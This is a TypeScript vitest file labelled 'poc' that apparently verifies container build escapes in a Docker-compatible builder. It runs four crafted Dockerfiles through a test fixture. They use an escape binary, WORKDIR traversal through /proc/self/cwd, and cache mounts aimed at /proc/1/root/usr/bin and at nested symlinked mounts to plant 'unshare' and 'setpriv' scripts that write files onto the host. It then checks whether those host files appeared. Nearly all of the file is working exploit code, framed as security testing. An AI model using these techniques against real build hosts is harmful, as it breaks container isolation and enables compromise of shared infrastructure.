import { copyFile, mkdir } from "node:fs/promises";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { it } from "vitest";
import { openDockerFixture, smallDocker } from "../../../test/support/docker-fixture.ts";
const BASE = `FROM scratch AS base
COPY busybox /bin/busybox
RUN ["/bin/busybox", "--install", "-s", "/bin"]
RUN mkdir -p /etc /tmp && echo root:x:0:0:root:/root:/bin/sh > /etc/passwd && echo app:x:1000:1001::/home/app:/bin/sh >> /etc/passwd
`;
it("poc", { timeout: 120000 }, async () => {
  const at = await openDockerFixture();
  const docker = smallDocker(at.socket);
  const host = join(at.dir, "hostfile");
  const tries: Record<string, string> = {
    chroot: `COPY esc /esc\nRUN /esc ${host}1`,
    wd: `WORKDIR /proc/self/cwd\nRUN ls; pwd; ls ../.. | head -3; echo x > ../../hostfile2; true`,
    procroot: `RUN --mount=type=cache,target=/m1,id=e echo '#!/bin/sh' > /m1/unshare; echo 'echo pwn > ${host}3' >> /m1/unshare; chmod 755 /m1/unshare; cp /m1/unshare /m1/setpriv\nRUN --mount=type=cache,id=e,target=/proc/1/root/usr/bin id`,
    nested: `RUN --mount=type=cache,target=/m1,id=e2 echo '#!/bin/sh' > /m1/unshare; echo 'echo pwn > ${host}4' >> /m1/unshare; chmod 755 /m1/unshare; cp /m1/unshare /m1/setpriv\nRUN --mount=type=cache,id=o,target=/o ln -s /usr/bin /o/bin\nRUN --mount=type=cache,id=o,target=/o --mount=type=cache,id=e2,target=/o/bin id`,
  };
  for (const [name, text] of Object.entries(tries)) {
    const cwd = await at.context({ Dockerfile: BASE + text });
    await copyFile("/tmp/rv/esc", join(cwd, "esc"));
    const ran = await docker(["build", "."], { cwd });
    console.log("=====", name, ran.code, ran.err.slice(-900));
    for (const n of [1,2,3,4]) console.log(n, existsSync(host+n));
  }
  console.log(existsSync(join(at.dir,"images/hostfile2")));
  await at.close();
});
